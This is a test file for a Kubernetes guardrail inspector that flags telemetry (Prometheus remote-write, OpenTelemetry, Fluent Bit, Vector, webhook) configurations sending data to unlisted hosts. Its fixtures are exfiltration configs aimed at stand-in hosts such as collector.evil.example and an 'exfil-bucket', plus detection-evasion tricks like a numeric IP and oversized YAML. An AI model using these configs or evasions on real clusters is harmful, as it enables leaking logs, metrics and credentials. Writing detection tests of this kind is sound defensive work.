import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/guardrails/inspect.js';
import { guardSettings, kube } from '../support/guardrails.js';

/**
 * Telemetry shipped to a host outside the site's lists (sweep49's open rows, issue #12; built in
 * telemetry49, rules/telemetry.ts). A site that lists where data may go (`guardrails.upload_hosts`,
 * data_upload_outside) asks for a container's `curl -T` to another host, and so for a Prometheus
 * that remote-writes every series (labels carry user names, e-mail addresses, tokens a careless
 * exporter puts in a label) to another host, an OpenTelemetry Collector, a Fluent Bit or a Vector
 * that exports every log line there. The routine rows (kube-prometheus-stack's Prometheus, the
 * chart's and the operator's example collectors, in-cluster backends, SaaS destinations the site
 * lists) ask nothing.
 */

const settings = guardSettings('guardrails:\n  upload_hosts: [metrics.corp.example, "*.grafana.net", otlp.corp.example, logs.corp.example]\n');
const EVIL = 'https://collector.evil.example';
const asked = (path: string, obj: unknown) => inspect(kube('POST', path), JSON.stringify(obj), 'application/json', false, settings).violations.filter((v) => v.code === 'data_upload_outside');

const PROMETHEUS = '/apis/monitoring.coreos.com/v1/namespaces/monitoring/prometheuses';
const prometheus = (spec: Record<string, unknown>) => ({ apiVersion: 'monitoring.coreos.com/v1', kind: 'Prometheus', metadata: { name: 'k8s', namespace: 'monitoring' }, spec: { replicas: 2, serviceAccountName: 'prometheus-k8s', serviceMonitorSelector: {}, ...spec } });
const OTEL = '/apis/opentelemetry.io/v1beta1/namespaces/observability/opentelemetrycollectors';
const collector = (exporters: Record<string, unknown>) => ({
  apiVersion: 'opentelemetry.io/v1beta1',
  kind: 'OpenTelemetryCollector',
  metadata: { name: 'otel', namespace: 'observability' },
  spec: { mode: 'deployment', config: { receivers: { otlp: { protocols: { grpc: { endpoint: '0.0.0.0:4317' } } } }, exporters, service: { pipelines: { traces: { receivers: ['otlp'], exporters: Object.keys(exporters) } } } } },
});
const CM = '/api/v1/namespaces/monitoring/configmaps';
const configMap = (key: string, text: string) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'telemetry', namespace: 'monitoring' }, data: { [key]: text } });

describe('telemetry to a host outside upload_hosts', () => {
  it.each([
    ['a Prometheus CR remote-writing every series outside', PROMETHEUS, prometheus({ remoteWrite: [{ url: `${EVIL}/api/v1/write` }] })],
    ['an OpenTelemetryCollector exporting traces outside (otlphttp)', OTEL, collector({ otlphttp: { endpoint: EVIL } })],
    ["a ConfigMap's prometheus.yml remote_write outside", CM, configMap('prometheus.yml', `global:\n  scrape_interval: 30s\nremote_write:\n  - url: ${EVIL}/api/v1/write\n`)],
    ["a ConfigMap's Fluent Bit output to an outside host", CM, configMap('fluent-bit.conf', '[INPUT]\n    Name tail\n    Path /var/log/containers/*.log\n[OUTPUT]\n    Name http\n    Match *\n    Host collector.evil.example\n    Port 443\n    tls On\n')],
  ])('%s', (_what, path, obj) => {
    expect(asked(path, obj)).toHaveLength(1);
  });

  it.each([
    ["kube-prometheus-stack's Prometheus (no remote write)", PROMETHEUS, prometheus({ ruleSelector: {}, retention: '10d' })],
    ['a Prometheus remote-writing to a listed host', PROMETHEUS, prometheus({ remoteWrite: [{ url: 'https://prometheus-prod-01-eu-west-0.grafana.net/api/prom/push' }] })],
    ["the operator's example collector (debug exporter, an in-cluster Jaeger)", OTEL, collector({ debug: {}, 'otlp/jaeger': { endpoint: 'jaeger-collector.observability.svc:4317', tls: { insecure: true } } })],
  ])('asks nothing for %s', (_what, path, obj) => {
    expect(asked(path, obj)).toEqual([]);
  });
});

const secret = (key: string, text: string) => ({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'telemetry', namespace: 'monitoring' }, stringData: { [key]: text } });
const SECRETS = '/api/v1/namespaces/monitoring/secrets';
const FLUENT_OUT = '/apis/fluentbit.fluent.io/v1alpha2/clusteroutputs';
const clusterOutput = (spec: Record<string, unknown>) => ({ apiVersion: 'fluentbit.fluent.io/v1alpha2', kind: 'ClusterOutput', metadata: { name: 'out' }, spec: { match: '*', ...spec } });
const collectorText = (exporters: string) => `receivers:\n  otlp:\n    protocols:\n      grpc:\n        endpoint: \${env:MY_POD_IP}:4317\nexporters:\n${exporters}\nservice:\n  pipelines:\n    logs:\n      receivers: [otlp]\n      exporters: [debug]\n`;

describe('telemetry destinations read (telemetry49)', () => {
  it.each([
    ['a PrometheusAgent remote-writing outside', '/apis/monitoring.coreos.com/v1alpha1/namespaces/monitoring/prometheusagents', { apiVersion: 'monitoring.coreos.com/v1alpha1', kind: 'PrometheusAgent', metadata: { name: 'agent' }, spec: { remoteWrite: [{ url: 'https://metrics.corp.example/push' }, { url: `${EVIL}/push` }] } }],
    ['a Prometheus patch setting one remoteWrite entry (no kind)', `${PROMETHEUS}/k8s`, { spec: { remoteWrite: [{ url: `${EVIL}/write` }] } }],
    ['a Prometheus remoteWrite url from nowhere (not a string)', PROMETHEUS, prometheus({ remoteWrite: [{ url: { valueFrom: 'x' } }] })],
    ['an AlertmanagerConfig webhook outside', '/apis/monitoring.coreos.com/v1alpha1/namespaces/monitoring/alertmanagerconfigs', { kind: 'AlertmanagerConfig', metadata: { name: 'a' }, spec: { receivers: [{ name: 'w', webhookConfigs: [{ url: `${EVIL}/hook` }] }] } }],
    ['a v1alpha1 collector whose config is YAML text (otlp outside)', OTEL, { kind: 'OpenTelemetryCollector', metadata: { name: 'o' }, spec: { config: collectorText('  otlp:\n    endpoint: collector.evil.example:4317') } }],
    ['an exporter endpoint from the environment (${env:…}: unknown)', OTEL, collector({ otlp: { endpoint: '${env:OTLP_ENDPOINT}' } })],
    ['an exporter to <svc>.<ns> (public unless that Service exists)', OTEL, collector({ 'otlp/tempo': { endpoint: 'tempo.monitoring:4317' } })],
    ['a gRPC dns:/// endpoint outside', OTEL, collector({ otlp: { endpoint: 'dns:///collector.evil.example:4317' } })],
    ['a number a resolver reads as an address', OTEL, collector({ otlp: { endpoint: '3405803781:4317' } })],
    ['an awss3 exporter to an unlisted bucket', OTEL, collector({ awss3: { s3uploader: { region: 'eu-west-1', s3_bucket: 'exfil-bucket' } } })],
    ['an awss3 exporter to a listed bucket on another endpoint', OTEL, collector({ awss3: { s3uploader: { s3_bucket: 'corp-telemetry', endpoint: 'https://minio.evil.example' } } })],
    ['a kafka exporter to outside brokers', OTEL, collector({ kafka: { brokers: ['kafka.kafka.svc:9092', 'kafka.evil.example:9092'] } })],
    ['a datadog exporter (the site lists no Datadog host)', OTEL, collector({ datadog: { api: { key: '${env:DD_API_KEY}' } } })],
    ['an elasticsearch exporter given a cloud id', OTEL, collector({ elasticsearch: { cloudid: 'foo:YmFy' } })],
    ['an exporter of a type no field here reads', OTEL, collector({ someexporter: { key: 'x' } })],
    ["the collector chart's ConfigMap (`relay`) exporting outside", CM, configMap('relay', collectorText('  debug: {}\n  otlphttp:\n    endpoint: https://collector.evil.example'))],
    ["an alertmanager.yml's webhook outside", CM, configMap('alertmanager.yml', `route:\n  receiver: hook\nreceivers:\n  - name: hook\n    webhook_configs:\n      - url: ${EVIL}/hook\n`)],
    ["Fluent Bit's YAML outputs outside", CM, configMap('fluent-bit.yaml', 'pipeline:\n  inputs:\n    - name: tail\n      path: /var/log/containers/*.log\n  outputs:\n    - name: loki\n      match: "*"\n      host: logs.evil.example\n')],
    ['Fluent Bit output host from a variable', CM, configMap('fluent-bit.conf', '[OUTPUT]\n    Name  es\n    Match *\n    Host  ${ES_HOST}\n')],
    ['Fluent Bit s3 output to an unlisted bucket', CM, configMap('fluent-bit.conf', '[OUTPUT]\n    Name s3\n    Match *\n    bucket exfil-bucket\n    region eu-west-1\n')],
    ['a Fluent Bit output plugin no field here reads', CM, configMap('fluent-bit.conf', '[OUTPUT]\n    Name somecloud\n    Match *\n')],
    ['a ClusterOutput (fluent-operator) to an outside Elasticsearch', FLUENT_OUT, clusterOutput({ es: { host: 'es.evil.example', port: 9200 } })],
    ['a ClusterOutput whose customPlugin config sends outside', FLUENT_OUT, clusterOutput({ customPlugin: { config: 'Name http\nHost collector.evil.example\nPort 443' } })],
    ["a Vector sink outside", CM, configMap('vector.yaml', 'sources:\n  k8s:\n    type: kubernetes_logs\nsinks:\n  out:\n    type: http\n    inputs: [k8s]\n    uri: https://collector.evil.example/ingest\n')],
    ["a Secret's prometheus.yml remote_write outside", SECRETS, secret('prometheus.yml', `remote_write:\n  - url: ${EVIL}/api/v1/write\n    basic_auth: {username: u, password: p}\n`)],
  ])('asks for %s', (_what, path, obj) => {
    expect(asked(path, obj)).toHaveLength(1);
  });

  const listed = guardSettings('guardrails:\n  upload_hosts: [api.honeycomb.io, "**.datadoghq.eu", "*.grafana.net", "*.monitoring", "s3://corp-telemetry"]\n');
  const askedListed = (path: string, obj: unknown) => inspect(kube('POST', path), JSON.stringify(obj), 'application/json', false, listed).violations.filter((v) => v.code === 'data_upload_outside');
  it.each([
    ["the opentelemetry-collector chart's default config (debug only)", CM, configMap('relay', collectorText('  debug: {}'))],
    ['a prometheus exporter (it serves a scrape endpoint)', OTEL, collector({ prometheus: { endpoint: '0.0.0.0:8889' } })],
    ['in-cluster backends: a single label, loopback, a Service, a unix socket', OTEL, collector({ 'otlp/a': { endpoint: 'tempo:4317' }, 'otlp/b': { endpoint: 'localhost:4317' }, 'otlp/c': { endpoint: 'tempo.monitoring.svc.cluster.local:4317' }, 'otlp/d': { endpoint: 'unix:///var/run/otel.sock' }, loki: { endpoint: 'http://loki-gateway.logging.svc/loki/api/v1/push' } })],
    ['<svc>.<ns> the site lists ("*.monitoring")', OTEL, collector({ 'otlp/tempo': { endpoint: 'tempo.monitoring:4317' } })],
    ['Honeycomb, listed', OTEL, collector({ otlp: { endpoint: 'api.honeycomb.io:443', headers: { 'x-honeycomb-team': '${env:HONEYCOMB_API_KEY}' } } })],
    ['Datadog EU, listed ("**.datadoghq.eu")', OTEL, collector({ datadog: { api: { site: 'datadoghq.eu', key: '${env:DD_API_KEY}' } } })],
    ['Grafana Cloud OTLP gateway, listed', OTEL, collector({ otlphttp: { endpoint: 'https://otlp-gateway-prod-eu-west-2.grafana.net/otlp' } })],
    ['an awss3 exporter to a listed bucket', OTEL, collector({ awss3: { s3uploader: { region: 'eu-west-1', s3_bucket: 'corp-telemetry' } } })],
    ['Fluent Bit to an in-cluster fluentd and stdout', CM, configMap('fluent-bit.conf', '[SERVICE]\n    Flush 1\n[OUTPUT]\n    Name forward\n    Match *\n    Host fluentd.logging.svc.cluster.local\n[OUTPUT]\n    Name stdout\n    Match debug.*\n')],
    ["kube-prometheus-stack's alertmanager.yaml (null receiver)", SECRETS, secret('alertmanager.yaml', 'route:\n  receiver: "null"\nreceivers:\n  - name: "null"\n')],
    ['a ClusterOutput to an in-cluster Loki', FLUENT_OUT, clusterOutput({ loki: { host: 'loki.logging.svc', port: 3100 } })],
    ['a ConfigMap of unrelated YAML', CM, configMap('app.yaml', 'server:\n  port: 8080\nfeatures: [a, b]\n')],
  ])('asks nothing for %s', (_what, path, obj) => {
    expect(askedListed(path, obj)).toEqual([]);
  });

  it('reads nothing where upload_hosts is empty (the example)', () => {
    const off = guardSettings('guardrails: {}\n');
    const rows: [string, unknown][] = [
      [PROMETHEUS, prometheus({ remoteWrite: [{ url: `${EVIL}/api/v1/write` }] })],
      [OTEL, collector({ otlphttp: { endpoint: EVIL } })],
      [CM, configMap('fluent-bit.conf', '[OUTPUT]\n    Name http\n    Host collector.evil.example\n')],
    ];
    for (const [path, obj] of rows) expect(inspect(kube('POST', path), JSON.stringify(obj), 'application/json', false, off).violations.filter((v) => v.code === 'data_upload_outside')).toEqual([]);
  });

  it('names where the destination sits and not the address', () => {
    const [v] = asked(PROMETHEUS, prometheus({ remoteWrite: [{ url: 'https://metrics.corp.example/w' }, { url: `${EVIL}/write` }] }));
    expect(v?.path).toBe('spec.remoteWrite[1].url');
    expect(v?.detail).not.toContain('evil');
  });
});

describe('telemetry destinations a patch does not show', () => {
  it('reports a JSON patch copying a value into remoteWrite[0].url as unreadable', () => {
    const patch = [{ op: 'copy', from: '/metadata/annotations/x', path: '/spec/remoteWrite/0/url' }];
    expect(inspect(kube('PATCH', `${PROMETHEUS}/k8s`), JSON.stringify(patch), 'application/json-patch+json', false, settings).unreadable).toBeDefined();
  });

  it('reads a JSON patch adding a remoteWrite entry', () => {
    const patch = [{ op: 'add', path: '/spec/remoteWrite/-', value: { url: `${EVIL}/w` } }];
    expect(inspect(kube('PATCH', `${PROMETHEUS}/k8s`), JSON.stringify(patch), 'application/json-patch+json', false, settings).violations.filter((v) => v.code === 'data_upload_outside')).toHaveLength(1);
  });

  it('reports a prometheus.yml past the YAML reader as unreadable', () => {
    const text = `remote_write:\n  - url: ${EVIL}/w\n${'# pad\n'.repeat(30000)}`;
    const r = inspect(kube('POST', CM), JSON.stringify(configMap('prometheus.yml', text)), 'application/json', false, settings);
    expect(r.unreadable).toBeDefined();
  });
});
